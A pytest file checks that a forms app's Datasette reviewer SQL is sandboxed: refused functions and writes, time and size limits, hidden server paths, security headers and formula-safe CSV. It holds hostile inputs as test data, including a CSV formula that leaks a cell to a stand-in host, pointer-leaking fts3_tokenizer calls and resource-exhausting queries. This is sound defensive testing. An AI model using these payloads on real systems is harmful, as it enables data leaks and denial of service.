"""Reviewers' SQL in Datasette is deny-by-default (issue 12: findings 1, 2, 5 for Datasette's CSV, and 7).

Allowed: reading tables and views through a listed set of functions and introspection pragmas; refused, in one
Vietnamese sentence and well within the time limit: every other function (the memory-corrupting fts3_tokenizer,
the huge-value randomblob and zeroblob), writes, ATTACH, server internals. Values are at most 1 MiB, SQL runs
on two Datasette threads, Datasette's pages carry the app's security headers, and its CSV never starts a cell
with a formula.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import re
import sqlite3
import time

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from support.data import EXAMPLE_ANSWERS, OPEN_DAY, PASSWORD, SELF, build_data_dir, register
from support.web import ProductClient

from forms_app.data import reviewer_access

# Datasette turns on SQLite's callback tracebacks: the linear replace and trim refusing a value say so on stderr.
pytestmark = pytest.mark.filterwarnings(
    r"ignore:Exception ignored in. <function (replace|_trimmer\.<locals>\.trim) at:pytest.PytestUnraisableExceptionWarning")
TIME_LIMIT_S = 1.0
# A refusal or a stop is a correctness bound here, not a benchmark: the 1 s limit, and room for a busy machine.
BOUND_S = 2.0
FORMULA = '=HYPERLINK("http://example.invalid/?leak="&B2,"Xem")'
# 2^19 and 2^20 letters a, built with allowed functions only (doubling): 2^20 is the largest value allowed, and a row
# SQLite keeps (a recursive query's queue, a sorter) is limited too, so 2^20 is made outside any.
HALF_MEBIBYTE = ("(with recursive d(s) as (select 'a' union all select s || s from d where length(s) < 500000) "
                 "select s from d where length(s) >= 500000)")
MEBIBYTE = f"(select s || s from (select {HALF_MEBIBYTE} as s))"


@pytest.fixture(scope="module")
def product(tmp_path_factory):
    """The whole product on a data directory where TOAN's submitted self-assessment answers with a formula."""
    from forms_app.adapters.wsgi import create_wsgi
    from forms_app.data import connection as database
    from forms_app.rules import registry
    from forms_app.rules import submitting as submissions

    data_dir = build_data_dir(tmp_path_factory.mktemp("reviewer-sql") / "data")
    application = create_wsgi(data_dir, {"TESTING": True, "NOW": OPEN_DAY})
    register(application.flask_app, "TOAN")
    answers = EXAMPLE_ANSWERS  # the latest shipped version's example
    forms = database.open_forms(data_dir)
    submissions.record(forms, unit_code="TOAN", definition=registry.definition(forms, SELF), cycle_year=2022,
                       answers={**answers, "tu_nhan_xet": FORMULA}, action="submit", author="toan",
                       base_revision=None, request_token="t-TOAN")
    forms.close()
    return application


def signed_in(product, username: str) -> ProductClient:
    client = ProductClient(product)
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)
    response = client.post("/login", data={"username": username, "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 302
    return client


@pytest.fixture(scope="module")
def reviewer(product) -> ProductClient:
    return signed_in(product, "vanphong")


def timed_sql(client: ProductClient, sql: str):
    started = time.perf_counter()
    response = client.get("/data/forms.json", query_string={"sql": sql, "_shape": "array"})
    return response, time.perf_counter() - started


# 1. A reviewer's SQL cannot reach SQLite's pointers, and is refused in Vietnamese

@pytest.mark.parametrize("sql, name", [
    ("select fts3_tokenizer('simple')", "fts3_tokenizer"),
    ("select hex(fts3_tokenizer('simple'))", "fts3_tokenizer"),
    ("select fts3_tokenizer('simple', x'0000000000000000')", "fts3_tokenizer"),
    ("select load_extension('/tmp/x.so')", "load_extension"),
    ("select json_patch('{}', '{}')", "json_patch"),
    ("select printf('%.*c', 2147483647, 'a')", "printf"),
    ("select format('%.*c', 2147483647, 'a')", "format"),
])
def test_a_function_outside_the_allow_list_is_refused_in_one_vietnamese_sentence(reviewer, sql, name):
    response, elapsed = timed_sql(reviewer, sql)
    assert response.status_code == 400 and elapsed < BOUND_S
    assert response.get_json()["error"] == f"Câu truy vấn dùng hàm không được phép: {name}."
    page = reviewer.get("/data/forms", query_string={"sql": sql}).get_data(as_text=True)
    assert f'<p class="message-error">Câu truy vấn dùng hàm không được phép: {name}.</p>' in page


@pytest.mark.parametrize("sql", [
    "create table x(a)", "insert into units(code, name) values ('X', 'x')", "update units set name = 'x'",
    "delete from units", "drop table units", "alter table units add column x", "begin", "savepoint s",
    "pragma query_only = 0", "pragma writable_schema = 1", "select * from pragma_query_only",
    "create temp table t(a)", "create virtual table temp.t using fts3tokenize(simple)", "analyze", "reindex",
    "attach database ':memory:' as other",
])
def test_the_authorizer_refuses_writes_even_on_a_writable_connection(product, tmp_path, sql):
    # Datasette opens forms.db read-only already; the authorizer refuses writes without counting on it.
    copy = tmp_path / "forms.db"
    source = sqlite3.connect(product.flask_app.config["DATA_DIR"] / "forms.db")
    target = sqlite3.connect(copy)
    source.backup(target)
    source.close()
    reviewer_access.prepare(target, "forms")
    with pytest.raises(sqlite3.DatabaseError, match="not authorized|prohibited|too many attached"):
        target.execute(sql)
    target.close()


def test_every_allowed_function_exists_in_this_sqlite():
    conn = sqlite3.connect(":memory:")
    known = {row[0] for row in conn.execute("select name from pragma_function_list")} | {"escape_fts"}
    assert reviewer_access.FUNCTIONS - known == set()


def test_reviewers_still_use_json_dates_windows_search_and_schema_functions(reviewer):
    sql = ("select json_extract('{\"a\": [1, 2]}', '$.a[1]') as j, '{\"a\": 3}' ->> 'a' as arrow, date('2022-09-15', '+1 day') as d, "
           "round(avg(length(name)), 1) > 0 as a, group_concat(code) is not null as g, "
           "(select count(*) > 2 from pragma_table_info('units')) as columns, instr('abcabc', 'ca') as i, "
           "replace('a-b', '-', '') as r, trim('..x..', '.') as t, upper(substr('abc', 2)) as s from units")
    response, _ = timed_sql(reviewer, sql)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.get_json() == [{"j": 2, "arrow": 3, "d": "2022-09-16", "a": 1, "g": 1, "columns": 1, "i": 3,
                                    "r": "ab", "t": "x", "s": "BC"}]
    ranked, _ = timed_sql(reviewer, "select code, rank() over (order by code) as r from units")
    assert [row["r"] for row in ranked.get_json()] == [1, 2, 3]


# 2. The time limit holds: no single call makes a huge value, loops stop at the limit

@pytest.mark.parametrize("sql", [
    "select length(hex(randomblob(100000000)))",
    "select replace(hex(zeroblob(100000000)),'0','00')",
    "with recursive c(x) as (select 1 union all select x + 1 from c where x < 1000000000) select count(*) from c",
    "select count(*) from units a, units b, units c, units d, units e, units f, units g, units h, units i, units j, "
    "units k, units l, units m, units n, units o, units p, units q, units r, units s, units t, units u, units v",
    "select fts3_tokenizer('simple')",
    "select printf('%.*c', 2147483647, 'a')",
    f"select length({MEBIBYTE} || 'b')",
    f"select length(replace(substr({MEBIBYTE}, 1, 600000), 'a', 'aa'))",
    # A step on the largest values on every row: the time limit stops the loop between steps.
    f"with recursive c(x) as (select 1 union all select x + 1 from c) "
    f"select count(*) from c where instr({HALF_MEBIBYTE} || x, 'b') + length(trim({HALF_MEBIBYTE} || x, 'a0123456789')) = 0",
])
def test_a_huge_or_endless_query_is_refused_or_stopped_within_the_time_limit(reviewer, sql):
    response, elapsed = timed_sql(reviewer, sql)
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert elapsed < BOUND_S
    error = response.get_json()["error"]
    assert error.startswith(("Câu truy vấn", "<p>Câu truy vấn chạy quá 1 giây")), error


@pytest.mark.parametrize("sql", [
    # SQLite's own instr, replace and trim compare every position with the whole pattern: seconds to minutes.
    f"select instr({MEBIBYTE}, substr({MEBIBYTE}, 1, 500000) || 'b')",
    f"select length(replace({MEBIBYTE}, substr({MEBIBYTE}, 1, 500000) || 'b', 'c'))",
    f"select length(trim({MEBIBYTE}, 'bcdefghijklmnopqrstuvwxyz0123456789a'))",
])
def test_string_searches_on_the_largest_values_take_linear_time(reviewer, sql):
    response, elapsed = timed_sql(reviewer, sql)
    assert response.status_code == 200 and elapsed < BOUND_S


def test_values_are_at_most_one_mebibyte_on_every_datasette_connection(product):
    datasette = product.datasette

    async def limits():
        return await datasette.get_database("forms").execute_fn(
            lambda conn: {limit: conn.getlimit(limit) for limit in reviewer_access.LIMITS})

    assert asyncio.run(limits()) == reviewer_access.LIMITS
    assert reviewer_access.LIMITS[sqlite3.SQLITE_LIMIT_LENGTH] == 1024 * 1024


# 3. Reviewers' queries run on two of Datasette's threads, not on the threads serving units

def test_reviewers_sql_runs_on_two_datasette_threads(product):
    datasette = product.datasette
    assert datasette.setting("num_sql_threads") == 2
    assert datasette.executor is not None and datasette.executor._max_workers == 2


# 4. Nothing about the server: paths, versions, threads

@pytest.mark.parametrize("username", ["vanphong", "admin"])
@pytest.mark.parametrize("page", ["versions", "threads", "settings", "plugins", "databases", "config"])
def test_pages_about_the_server_are_not_found(product, username, page):
    client = signed_in(product, username)
    for url in (f"/data/-/{page}", f"/data/-/{page}.json"):
        response = client.get(url)
        assert response.status_code == 404, url
        assert str(product.flask_app.config["DATA_DIR"]) not in response.get_data(as_text=True)


@pytest.mark.parametrize("sql, sentence", [
    ("select * from pragma_database_list", "Câu truy vấn đọc bảng không được phép: pragma_database_list."),
    ("select file from pragma_database_list", "Câu truy vấn đọc bảng không được phép: pragma_database_list."),
    ("select * from dbstat", "Câu truy vấn đọc bảng không được phép: dbstat."),
    ("select sql from sqlite_stmt", "Câu truy vấn đọc bảng không được phép: sqlite_stmt."),
    ("select sqlite_version()", "Câu truy vấn dùng hàm không được phép: sqlite_version."),
    ("select sqlite_compileoption_get(0)", "Câu truy vấn dùng hàm không được phép: sqlite_compileoption_get."),
])
def test_reviewers_sql_cannot_read_paths_versions_or_other_statements(product, sql, sentence):
    for username in ("vanphong", "admin"):
        response, _ = timed_sql(signed_in(product, username), sql)
        assert response.status_code == 400
        assert response.get_json()["error"] == sentence


def test_no_datasette_page_shows_the_data_directory(product):
    admin = signed_in(product, "admin")
    path = str(product.flask_app.config["DATA_DIR"])
    for url in ("/data/", "/data/.json", "/data/forms", "/data/forms.json", "/data/-/metadata.json", "/data/-/actor.json"):
        response = admin.get(url)
        assert response.status_code == 200 and path not in response.get_data(as_text=True), url
    assert admin.get("/data/_internal").status_code == 403  # Datasette's catalogue holds the absolute paths
    assert admin.get("/data/_internal.json", query_string={"sql": "select path from databases"}).status_code == 403


# 5. Datasette's pages carry the app's security headers

def _headers_are_secure(response, cache: bool = False) -> None:
    policy = response.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy and "base-uri 'none'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    if not cache:
        assert response.headers.getlist("Cache-Control") == ["no-store"]


@pytest.mark.parametrize("url", [
    "/data/", "/data/forms", "/data/forms/units", "/data/forms/tong_quan?_facet=band", "/data/forms/units.json",
    "/data/forms/units.csv", "/data/forms?sql=select+1", "/data/forms/xep_hang_trong_cum?nam=2022", "/data/-/bieu-do",
    "/data/forms?sql=select+fts3_tokenizer(1)", "/data/forms/nothing-here", "/data/-/versions",
])
def test_datasette_pages_carry_the_apps_security_headers(reviewer, url):
    response = reviewer.get(url)
    _headers_are_secure(response)
    if response.headers["Content-Type"].startswith("text/html"):
        # Every inline script of the page runs: the policy names it by its hash.
        policy = response.headers["Content-Security-Policy"]
        for script in re.findall(r"<script>(.*?)</script>", response.get_data(as_text=True), re.S):
            if "SQL query" not in script and "let ta = " not in script:  # the time-limit page's textarea sizing
                digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
                assert f"'sha256-{digest}'" in policy, script[:80]


def test_datasette_static_files_keep_their_cache_and_the_sign_in_answers_are_secured(product, reviewer):
    _headers_are_secure(reviewer.get("/data/-/static/app.css"), cache=True)
    _headers_are_secure(ProductClient(product).get("/data/forms"))  # the redirect to sign in
    _headers_are_secure(signed_in(product, "toan").get("/data/forms"))  # a unit: 403


# 6. Datasette's CSV is safe to open in a spreadsheet

CELLS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "=A1\n=B2, \"quoted\"", "-3", "-3.5", "-1e5", "3", "a=b", ""]


def _sql_of_cells() -> str:
    def literal(cell: str) -> str:
        return "'" + cell.replace("'", "''").replace("\n", "' || char(10) || '").replace("\r", "' || char(13) || '") \
            .replace("\t", "' || char(9) || '") + "'"

    return "select " + ", ".join(f"{literal(cell)} as c{i}" for i, cell in enumerate(CELLS))


def _expected(cell: str) -> str:
    return cell if cell in ("-3", "-3.5", "-1e5", "3", "a=b", "") else "'" + cell


@pytest.mark.parametrize("extra", [{}, {"_dl": "1"}, {"_stream": "1"}, {"_stream": "1", "_dl": "1"}])
def test_datasette_csv_writes_formulas_as_text(reviewer, extra):
    response = reviewer.get("/data/forms.csv", query_string={"sql": _sql_of_cells(), **extra})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert rows[0] == [f"c{i}" for i in range(len(CELLS))]
    assert rows[1] == [_expected(cell) for cell in CELLS]


@pytest.mark.parametrize("url", ["/data/forms/answers.csv?question_id=tu_nhan_xet",
                                 "/data/forms/answers.csv?question_id=tu_nhan_xet&_stream=1&_dl=1",
                                 "/data/forms/answers/{submission},tu_nhan_xet.csv"])
def test_a_units_formula_answer_reaches_a_reviewers_csv_as_text(reviewer, url):
    submission = timed_sql(reviewer, "select submission_id from answers where question_id = 'tu_nhan_xet'")[0].get_json()
    response = reviewer.get(url.format(submission=submission[0]["submission_id"]))
    assert response.status_code == 200
    header, *rows = csv.reader(io.StringIO(response.get_data(as_text=True), newline=""))
    assert [row[header.index("value")] for row in rows] == ["'" + FORMULA]


def test_csv_cells_are_made_safe_however_the_stream_is_cut():
    from forms_app.adapters.reviewers.responses import SafeCsv

    out = io.StringIO()
    csv.writer(out).writerows([["a", "=1+1"], ['x\r\n"=y"', "-2"], ["ế", "@z,w"]])
    original = out.getvalue().encode("utf-8")
    for size in (1, 2, 3, 7, len(original)):
        cells = SafeCsv()
        rewritten = b"".join(cells.feed(original[i:i + size]) for i in range(0, len(original), size)) + cells.feed(b"", final=True)
        rows = list(csv.reader(io.StringIO(rewritten.decode("utf-8"), newline="")))
        assert rows == [["a", "'=1+1"], ['x\r\n"=y"', "-2"], ["ế", "'@z,w"]], size


# 7. The fuzz test: function calls and literals, allowed and refused, nested

ALLOWED = sorted(reviewer_access.FUNCTIONS - {"->", "->>", "match", "escape_fts", "highlight", "snippet", "bm25"})
REFUSED = ["printf", "format", "fts3_tokenizer", "load_extension", "randomblob", "zeroblob", "json_patch", "sqlite_version",
           "sqlite_source_id", "sqlite_compileoption_get", "changes", "total_changes", "last_insert_rowid", "subtype",
           "fts5", "matchinfo", "offsets", "rtreenode", "unlikely_name"]
literal = st.one_of(
    st.sampled_from(["NULL", "''", "'a'", "'%'", "'_'", "'*'", "'$.a'", "'[1,2]'", "'{\"a\":1}'", "x'00ff'", "'now'",
                     "'simple'", "'+1 day'", "'%Y'", "'%.*c'", "char(10)", "'ế'", "-1", "0", "1", "0.5", "1e308"]),
    st.integers(min_value=-(2 ** 63), max_value=2 ** 63 - 1).map(str),
    st.sampled_from([10 ** 6, 10 ** 8, 10 ** 9, 2 ** 31, 2 ** 62, 10 ** 30]).map(str),
)
expression = st.recursive(
    literal,
    lambda inner: st.builds(lambda name, args: f"{name}({', '.join(args)})",
                            st.sampled_from(ALLOWED + REFUSED), st.lists(inner, max_size=3))
    | st.builds(lambda a, op, b: f"({a} {op} {b})", inner, st.sampled_from(["||", "+", "*", "like", "glob", "="]), inner),
    max_leaves=8,
)


def test_fuzzed_function_calls_never_crash_or_outrun_the_time_limit(reviewer):
    @settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
    @given(columns=st.lists(expression, min_size=1, max_size=3))
    @example(columns=["length(hex(randomblob(100000000)))"])  # the attack's compositions, every run
    @example(columns=["replace(hex(zeroblob(100000000)), '0', '00')", "fts3_tokenizer('simple')"])
    @example(columns=["instr(printf('%.*c', 1000000000, 'a'), printf('%.*c', 100000000, 'a'))"])
    @example(columns=[f"instr({MEBIBYTE}, substr({MEBIBYTE}, 2) || 'b')", f"trim({MEBIBYTE}, '{'a' * 60}')"])
    def run(columns):
        sql = "select " + ", ".join(columns)
        response, elapsed = timed_sql(reviewer, sql)
        assert response.status_code in (200, 400), (sql, response.status_code, response.get_data(as_text=True)[:300])
        assert elapsed < TIME_LIMIT_S + 1.0, (sql, elapsed)
        body = response.get_json()
        if response.status_code == 400:
            assert body["ok"] is False and body["error"]
            if "not authorized" in body["error"] or "prohibited" in body["error"]:
                pytest.fail(f"an English refusal: {body['error']}")

    run()
